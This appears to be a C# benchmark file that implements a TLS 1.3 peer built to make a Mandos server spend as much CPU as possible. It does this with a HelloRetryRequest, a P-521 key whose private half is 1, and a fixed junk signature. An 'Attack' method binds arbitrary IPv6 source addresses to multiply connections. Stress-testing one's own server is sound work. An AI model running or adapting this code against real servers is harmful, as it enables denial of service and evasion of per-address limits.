using System.Net;
using System.Net.Sockets;
using Org.BouncyCastle.Asn1.Sec;
using Org.BouncyCastle.Asn1.X509;
using Org.BouncyCastle.Asn1.X9;
using Org.BouncyCastle.Security;
using Org.BouncyCastle.Tls;
using Org.BouncyCastle.Tls.Crypto;
using Org.BouncyCastle.Tls.Crypto.Impl.BC;

namespace Mandos.Bench;

/// <summary>
/// A peer of the Mandos server that costs it as much as a stranger can: it asks for another key share (HelloRetryRequest), shows
/// a key on P-521, whose private half is 1, and signs with the same rubbish every time. Its own work is a fraction of that.
/// </summary>
internal sealed class DearServer() : AbstractTlsServer(new BcTlsCrypto(new SecureRandom()))
{
    private static readonly byte[] Key = MakeKey();
    private static readonly byte[] Signature = MakeSignature();

    /// <summary>One connection from its own address, to the alert that ends it; false if there was none to be had.</summary>
    internal static bool Attack(IPEndPoint target, IPAddress source)
    {
        const int IPPROTO_IPV6 = 41, IPV6_FREEBIND = 78;
        try
        {
            using var socket = new Socket(
                AddressFamily.InterNetworkV6, SocketType.Stream, ProtocolType.Tcp)
            { ReceiveTimeout = 15_000, NoDelay = true };
            socket.SetRawSocketOption(IPPROTO_IPV6, IPV6_FREEBIND, [1, 0, 0, 0]);
            socket.Bind(new IPEndPoint(source, 0));
            socket.Connect(target);
            using var stream = new NetworkStream(socket);
            stream.Write("1\r\n"u8);
            new TlsServerProtocol(stream).Accept(new DearServer());
            return true;
        }
        catch (IOException)
        {
            // The server found the signature to be wrong.
            return true;
        }
        catch (SocketException)
        {
            return false;
        }
    }

    protected override ProtocolVersion[] GetSupportedVersions() => ProtocolVersion.TLSv13.Only();

    protected override int[] GetSupportedCipherSuites() => [CipherSuite.TLS_AES_128_GCM_SHA256];

    public override int[] GetSupportedGroups() => [NamedGroup.secp256r1];

    public override TlsCredentials GetCredentials() => new DefaultTlsCredentialedSigner(
        new TlsCryptoParameters(m_context), new Rubbish(),
        new Certificate(
            CertificateType.RawPublicKey, [], [new CertificateEntry(new BcTlsRawKeyCertificate((BcTlsCrypto)m_context.Crypto, Key), null)]),
        SignatureScheme.GetSignatureAndHashAlgorithm(SignatureScheme.ecdsa_secp521r1_sha512));

    private static byte[] MakeKey()
    {
        var curve = ECNamedCurveTable.GetByOid(SecObjectIdentifiers.SecP521r1);
        var algorithm = new AlgorithmIdentifier(X9ObjectIdentifiers.IdECPublicKey, SecObjectIdentifiers.SecP521r1);
        return new SubjectPublicKeyInfo(algorithm, curve.G.GetEncoded(false)).GetDerEncoded();
    }

    /// <summary>SEQUENCE { r, s }, both below the order.</summary>
    private static byte[] MakeSignature()
    {
        byte[] number = [2, 65, 0x51, .. Enumerable.Repeat((byte)0xA7, 64)];
        return [0x30, 0x81, (byte)(2 * number.Length), .. number, .. number];
    }

    private sealed class Rubbish : TlsSigner
    {
        public byte[] GenerateRawSignature(SignatureAndHashAlgorithm algorithm, byte[] hash) => Signature;

        public TlsStreamSigner GetStreamSigner(SignatureAndHashAlgorithm algorithm) => new Sink();

        private sealed class Sink : TlsStreamSigner
        {
            public Stream Stream => Stream.Null;

            public byte[] GetSignature() => Signature;
        }
    }
}
